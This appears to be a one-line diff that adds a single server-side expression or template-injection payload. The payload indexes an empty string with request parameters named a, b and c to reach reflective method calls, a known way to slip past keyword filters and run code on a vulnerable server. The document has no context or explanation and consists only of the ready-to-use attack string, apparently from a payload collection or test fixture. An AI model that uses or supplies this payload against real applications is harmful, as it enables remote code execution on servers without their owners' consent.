@@ -1,0 +1,1 @@
+${""[param['a']]()[param['b']](param['c'])}
